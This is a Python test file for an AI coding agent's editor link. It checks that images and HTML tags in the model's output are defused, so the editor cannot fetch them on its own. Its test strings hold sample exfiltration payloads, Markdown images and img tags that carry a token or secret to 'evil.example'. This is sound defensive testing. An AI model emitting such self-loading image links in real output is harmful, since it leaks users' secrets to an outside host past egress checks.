"""An editor renders the agent's Markdown, so an image in the model's text would be
fetched as it is drawn: no click, no question, past every egress check (finding Q13).
What reaches the editor is a link instead, and HTML that loads a URL is text; code
the model writes (a fenced block, an inline span) is left as written."""

from __future__ import annotations

import re
from pathlib import Path
from typing import Any

import pytest
from acp.schema import TextContentBlock

from shell.core.remoteimages import ImageDefuser, defang_images

from .conftest import EditorClient, Spawn

pytestmark = pytest.mark.anyio

LEAK = "Here: ![logo](https://evil.example/p.png?k=ghp_leak) and <img src=\"https://evil.example/i?d=SECRET\">"
CODE = "\n```html\n<img src=\"a.png\"> ![b](b.png)\n```\nand `<img src=x>` stay.\n"


async def test_the_editor_gets_no_image_that_loads_itself(spawn: Spawn, script: Any, workspace: Path) -> None:
    client = EditorClient()
    turn = {"thinking": "![t](https://evil.example/t)", "text": LEAK + CODE}
    async with spawn(client, "--model", script([turn])) as conn:
        session = await conn.new_session(cwd=str(workspace), mcp_servers=[])
        await conn.prompt(session_id=session.session_id, prompt=[TextContentBlock(type="text", text="hi")])
    text = client.text()
    prose = text.split("```")[0]
    assert not re.search(r"(?<!\\)!\[", prose) and "<img" not in prose  # no image, no tag outside code
    assert "\\![logo](https://evil.example/p.png?k=ghp_leak)" in text  # a link: the URL stays readable
    assert "&lt;img src=\"https://evil.example/i?d=SECRET\">" in text
    assert CODE.strip() in text  # code is drawn as text by every renderer: left as written
    assert client.thoughts() == "\\![t](https://evil.example/t)"


def test_split_anywhere_the_stream_says_the_same_as_the_whole() -> None:
    whole = LEAK + CODE + "after ![c](u) \\![escaped](u) <IFRAME src=1> <imgx>"
    rest = ImageDefuser()
    expected = rest.feed(whole) + rest.flush()
    for size in (1, 2, 3, 5, 7):
        d = ImageDefuser()
        out = "".join(d.feed(whole[i : i + size]) for i in range(0, len(whole), size)) + d.flush()
        assert out == expected, size
    assert "\\![c](u)" in expected and "\\![escaped](u)" in expected and "\\\\!" not in expected
    assert "&lt;IFRAME" in expected and "<imgx>" in expected
    assert defang_images("\\\\![x](u)") == "\\\\\\![x](u)"  # an escaped backslash, then an image: escaped
